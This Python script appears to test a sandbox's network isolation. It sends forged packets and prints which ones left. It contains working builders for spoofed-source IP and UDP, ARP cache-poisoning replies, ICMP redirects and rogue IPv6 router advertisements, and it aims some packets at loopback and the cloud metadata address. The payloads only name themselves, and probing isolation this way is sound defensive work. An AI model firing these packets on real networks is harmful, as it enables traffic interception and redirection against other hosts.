"""Forged packets, sent from inside: run as a script there, so only the standard library. argv: JSON with addresses and ports.

Each carries its own name as payload, so that whoever receives one says which. Prints the names of those that left.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
from collections.abc import Callable, Iterator

ETH = "eth0"


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    """An IPv4 packet."""
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target)
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(port: int, text: str) -> bytes:
    """A UDP datagram without a checksum."""
    return struct.pack("!HHHH", 40000, port, 8 + len(text), 0) + text.encode()


def frame(target: bytes, source: bytes, kind: int, payload: bytes) -> bytes:
    """An Ethernet frame."""
    return target + source + struct.pack("!H", kind) + payload


def arp_reply(source_mac: bytes, claimed: str, target_mac: bytes, target: str) -> bytes:
    """`claimed` is at `source_mac`."""
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + source_mac + socket.inet_aton(claimed) + target_mac + socket.inet_aton(target)


def redirect(gateway: str, target: str, better: str, about: str) -> bytes:
    """An ICMP redirect to `target`: send what goes to `about` to `better`."""
    inner = ip(target, about, 17, udp(9, ""))
    body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(better)) + inner
    return ip(gateway, target, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])


def router_advertisement(source_mac: bytes) -> bytes:
    """IPv6: a default router and a prefix for everybody."""
    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, "2001:db8:bad::"))
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB6s", 1, 1, source_mac) + prefix
    source, target = (socket.inet_pton(socket.AF_INET6, text) for text in ("fe80::bad", "ff02::1"))
    pseudo = source + target + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target + body


def neighbour_mac(address: str) -> bytes:
    """From the kernel's table, after a packet there."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"who", (address, 9))
    for _ in range(50):
        with open("/proc/net/arp", encoding="ascii") as file:
            for line in file.read().splitlines()[1:]:
                fields = line.split()
                if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(fields[3].replace(":", ""))
    return b"\xff" * 6


def attacks(want: dict[str, object]) -> Iterator[tuple[str, Callable[[], object]]]:
    """Name and act."""
    own, gateway, neighbour, victim = (str(want[name]) for name in ("own", "gateway", "neighbour", "victim"))
    port, host_port, host = int(str(want["port"])), int(str(want["host_port"])), str(want["host"])
    mac = bytes.fromhex(str(want["mac"]).replace(":", ""))
    router, everyone = neighbour_mac(gateway), b"\xff" * 6
    peer_mac = bytes.fromhex(str(want["neighbour_mac"]).replace(":", ""))

    def raw(target: str, packet: bytes) -> Callable[[], object]:
        def send() -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as made:
                made.sendto(packet, (target, 0))

        return send

    def link(data: bytes) -> Callable[[], object]:
        def send() -> None:
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as made:
                made.bind((ETH, 0))
                for _ in range(3):
                    made.send(data)

        return send

    for source, what in (
        (neighbour, "neighbour"),
        (gateway, "gateway"),
        (victim, "victim"),
        ("127.0.0.1", "loopback"),
        ("8.8.8.8", "stranger"),
    ):
        for target, at, whom in (
            (neighbour, port, "neighbour"),
            (gateway, host_port, "host"),
            (host, host_port, "machine"),
            (victim, port, "victim"),
        ):
            name = f"FORGED as {what} to {whom}"
            yield f"{name}, raw", raw(target, ip(source, target, 17, udp(at, f"{name}, raw")))
            yield f"{name}, link", link(frame(router, mac, 0x0800, ip(source, target, 17, udp(at, f"{name}, link"))))
            yield f"{name}, other MAC", link(frame(router, peer_mac, 0x0800, ip(source, target, 17, udp(at, f"{name}, other MAC"))))
            yield f"{name}, VLAN", link(frame(router, mac, 0x8100, b"\0\1\x08\0" + ip(source, target, 17, udp(at, f"{name}, VLAN"))))
    for target, whom in (("127.0.0.1", "loopback"), ("127.0.0.11", "loopback 11"), ("169.254.169.254", "metadata"), (host, "machine")):
        name = f"DIRECT to {whom}"
        yield name, link(frame(router, mac, 0x0800, ip(own, target, 17, udp(host_port, name))))
    for target in ("255.255.255.255", str(want["broadcast"]), "224.0.0.251", "224.0.0.1"):
        for at in (port, host_port):
            name = f"BROADCAST {target} {at}"
            yield name, link(frame(everyone, mac, 0x0800, ip(own, target, 17, udp(at, name))))
    yield "TRUE, raw", raw(neighbour, ip(own, neighbour, 17, udp(port, "TRUE, raw")))
    yield "TRUE, link", link(frame(router, mac, 0x0800, ip(own, neighbour, 17, udp(port, "TRUE, link"))))
    yield "neighbour by its MAC", link(frame(peer_mac, mac, 0x0800, ip(gateway, neighbour, 17, udp(port, "FORGED past the router"))))
    yield "ARP to the neighbour", link(frame(peer_mac, mac, 0x0806, arp_reply(mac, gateway, peer_mac, neighbour)))
    yield "ARP to everyone", link(frame(everyone, mac, 0x0806, arp_reply(mac, gateway, everyone, gateway)))
    yield "ARP to the router", link(frame(router, mac, 0x0806, arp_reply(mac, neighbour, router, gateway)))
    yield "redirect", link(frame(router, mac, 0x0800, redirect(gateway, neighbour, own, "203.0.113.77")))
    yield "redirect, direct", link(frame(peer_mac, mac, 0x0800, redirect(gateway, neighbour, own, "203.0.113.77")))
    yield "router advertisement", link(frame(bytes.fromhex("333300000001"), mac, 0x86DD, router_advertisement(mac)))


def main() -> None:
    """Send them all."""
    left = []
    for name, act in attacks(json.loads(sys.argv[1])):
        try:
            act()
            left.append(name)
        except OSError as error:
            print(f"{name}: {error}", file=sys.stderr)
    print(json.dumps(left))


if __name__ == "__main__":
    main()
